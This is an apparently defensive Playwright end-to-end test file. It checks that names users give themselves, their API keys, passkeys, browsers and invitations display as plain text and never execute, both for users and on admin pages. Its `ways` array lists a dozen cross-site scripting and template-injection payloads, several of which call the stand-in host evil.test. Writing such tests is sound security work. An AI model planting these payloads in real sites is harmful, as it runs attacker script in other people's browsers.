import type { ApiKeyCreated, InvitationCreated, PasskeyView, Session } from '@octavo/contracts';
import type { Browser, Page } from '@playwright/test';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { createAuthenticator } from '../../apps/server/src/testing/authenticator.ts';
import { until } from '../../apps/server/src/testing/until.ts';
import { startTestServer, type TestServer, type TestUser } from '../../apps/server/src/testing/server.ts';
import { password } from '../lib/cast.ts';
import { expectNothingRan } from './expect-nothing-ran.ts';
import { openPage, type Seen, startBrowser } from './watch.ts';

const act = `top.hit=1,fetch('//evil.test')`;
/** Each fits into the 100 characters of a name. */
const ways = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `"><svg onload="${act}">`,
  `'><details open ontoggle=${act}>`,
  `" autofocus onfocus="${act}" title="`,
  `</title></textarea></style><img src=x onerror=${act}>`,
  `<a href="javascript:${act}">x</a>`,
  `javascript:${act}`,
  `[x](javascript:${encodeURIComponent(act)})`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `&lt;img src=x onerror=${act}&gt;`,
  '{{constructor.constructor("hit=1")()}} $t(nav.new) ${hit=1}',
];
const origin = 'https://octavo.example.org';

/** What people call themselves and their things is shown to them and to admins, letter by letter. */
describe('names in the browser', () => {
  let server: TestServer;
  let browser: Browser;
  let base: string;
  let page: Page;
  let seen: Seen;
  let admin: TestUser;
  /** Somebody for every pair of ways. */
  const people: Array<{ user: TestUser; session: Session; firstName: string; lastName: string }> = [];

  beforeAll(async () => {
    server = await startTestServer({ serverUrl: inject('serverUrl'), workers: 0, env: { PUBLIC_URL: origin } });
    base = server.url.replace('127.0.0.1', 'localhost');
    browser = await startBrowser();
    admin = await server.signUp('names-admin@example.org');
    for (let at = 0; at < ways.length; at += 2) {
      const [firstName = '', lastName = ''] = ways.slice(at);
      const user = await server.signUp(`names-${at}@example.org`);
      const { status } = await user.call('PATCH', '/api/account', { firstName, lastName });
      expect([firstName, lastName, status]).toEqual([firstName, lastName, 200]);
      const budget = `/api/budgets/user:${user.session.user.id}/month`;
      expect((await admin.call('PUT', budget, { limitMicroUsd: 5_000_000 })).status).toBe(200);
      people.push({ user, session: (await login(`names-${at}@example.org`)).body.data, firstName, lastName });
    }
    const { user } = people[0]!;
    for (const way of ways) {
      const key = await user.call<ApiKeyCreated>('POST', '/api/account/keys', {
        password,
        name: way,
        scopes: ['read'],
      });
      expect([way, key.status]).toEqual([way, 201]);
      await addPasskey(user, way);
      expect([way, (await login('names-2@example.org', way)).status]).toEqual([way, 200]);
      await invite(way);
    }
  });
  afterEach(() => page?.context().close());
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  const login = (email: string, userAgent = 'a program') =>
    server.call<Session>('POST', '/api/auth/login', {
      body: { email, password },
      headers: { 'user-agent': userAgent },
    });

  async function addPasskey(user: TestUser, name: string): Promise<void> {
    const { body } = await user.call<{ options: { challenge: string } }>('POST', '/api/account/passkeys/options', {
      password,
    });
    const { challenge } = body.data.options;
    const response = createAuthenticator().register({ challenge, origin, rpId: new URL(origin).hostname });
    const { status } = await user.call<PasskeyView>('POST', '/api/account/passkeys', { name, response });
    expect([name, status]).toEqual([name, 201]);
  }

  /** No such address is taken; the studio relies on that nowhere, so it is put into the rows behind the server's back. */
  async function invite(email: string): Promise<void> {
    const refused = await admin.call('POST', '/api/admin/invitations', { email: `${email}@example.org` });
    expect([email, refused.status]).toEqual([email, 400]);
    const made = await admin.call<InvitationCreated>('POST', '/api/admin/invitations', { email: 'guest@example.org' });
    await server.database.query('UPDATE invitations SET email = $2 WHERE id = $1', [made.body.data.id, email]);
    const rename = "UPDATE outbox_messages SET destination = $1 WHERE destination = 'guest@example.org' RETURNING id";
    await until(async () => (await server.database.query(rename, [email])).length > 0);
  }

  async function signedIn(session: Session): Promise<void> {
    ({ page, seen } = await openPage(browser, session));
  }

  /** All words of the page, those in its fields and its labels for screen readers included. */
  const shown = () =>
    page.evaluate(() =>
      Array.from(document.body.querySelectorAll('*'), (element) =>
        [
          element instanceof HTMLInputElement ? element.value : '',
          element.getAttribute('aria-label') ?? '',
          element.children.length === 0 ? element.textContent : '',
        ].join('\n'),
      )
        .concat(document.body.textContent, document.title)
        .join('\n'),
    );

  /** Every one of `texts` is on the page as it was written, and none of them did anything. */
  async function expectShown(texts: readonly string[]): Promise<void> {
    await expect
      .poll(
        async () => {
          const words = await shown();
          return texts.filter((text) => !words.includes(text));
        },
        { timeout: 15_000 },
      )
      .toEqual([]);
    await expectNothingRan(page, seen);
  }

  it.each(ways.flatMap((_way, at) => (at % 2 === 0 ? [at / 2] : [])))(
    "people's own names, to themselves: pair %i",
    async (at) => {
      const { session, firstName, lastName } = people[at]!;
      await signedIn(session);
      await page.goto(`${base}/account`);
      await expectShown([firstName, lastName]);
      await page.getByRole('button', { name: 'Account and settings' }).click();
      await expectShown([`${firstName} ${lastName}`]);
    },
  );

  it('names of keys and passkeys, and of browsers', async () => {
    await signedIn(people[0]!.session);
    await page.goto(`${base}/account/keys`);
    await expectShown(ways);
    for (const way of ways) {
      await page.getByRole('button', { name: `Delete: ${way}`, exact: true }).click();
      await page.getByRole('dialog').getByText(way).waitFor();
      await expectNothingRan(page, seen);
      await page.keyboard.press('Escape');
    }
    await page.goto(`${base}/account/security`);
    await expectShown(ways);
    for (const way of ways) {
      for (const what of ['Rename', 'Remove']) {
        await page.getByRole('button', { name: `${what}: ${way}`, exact: true }).click();
        await page.getByRole('dialog').getByText(way).waitFor();
        await expectNothingRan(page, seen);
        await page.keyboard.press('Escape');
      }
    }
    // Of a browser only what we know of it is said.
    await page.context().close();
    await signedIn(people[1]!.session);
    await page.goto(`${base}/account/security`);
    await page.getByText('Unknown device').first().waitFor();
    await expectNothingRan(page, seen);
  });

  it('to an admin: people, budgets, invitations, messages', async () => {
    await signedIn(admin.session);
    const names = people.map(({ firstName, lastName }) => `${firstName} ${lastName}`);
    await page.goto(`${base}/admin/users`);
    await expectShown(names);
    for (const name of names) {
      await page.getByRole('button', { name: `Actions for ${name}`, exact: true }).click();
      await page.getByRole('menuitem', { name: 'Suspend' }).click();
      await page.getByRole('alertdialog').or(page.getByRole('dialog')).getByText(name).first().waitFor();
      await expectNothingRan(page, seen);
      await page.keyboard.press('Escape');
    }
    await page.goto(`${base}/admin/budgets?person=${people[0]!.user.session.user.id}`);
    await expectShown([names[0]!]);
    await page.getByRole('combobox', { name: 'Person' }).click();
    await expectShown(names);
    await page.goto(`${base}/admin/invitations`);
    await expectShown(ways);
    for (const way of ways) {
      await page.getByRole('button', { name: `Revoke the invitation for ${way}`, exact: true }).click();
      await page.getByRole('dialog').getByText(way).first().waitFor();
      await expectNothingRan(page, seen);
      await page.keyboard.press('Escape');
    }
    await page.goto(`${base}/admin/messages`);
    await expectShown(ways);
    for (const way of ways) {
      const row = page.getByRole('row').filter({ hasText: way }).first();
      await row.getByRole('button').click();
      await page.getByRole('dialog').getByText(way).waitFor();
      await expectNothingRan(page, seen);
      await page.keyboard.press('Escape');
    }
  });

  it('to an admin: the audit log, with the browsers that people say they have', async () => {
    await signedIn(admin.session);
    await page.goto(`${base}/admin/audit?action=login.succeeded`);
    await page
      .getByRole('button', { name: /^Details/ })
      .nth(ways.length - 1)
      .waitFor();
    for (const [at, way] of ways.toReversed().entries()) {
      await page
        .getByRole('button', { name: /^Details/ })
        .nth(at)
        .click();
      await page.getByRole('dialog').waitFor();
      await expectShown([way, people[1]!.firstName]);
      await page.keyboard.press('Escape');
    }
    await page.goto(`${base}/admin/audit?action=account.registered`);
    await expectShown(people.map(({ firstName, lastName }) => `${firstName} ${lastName}`));
  });
});
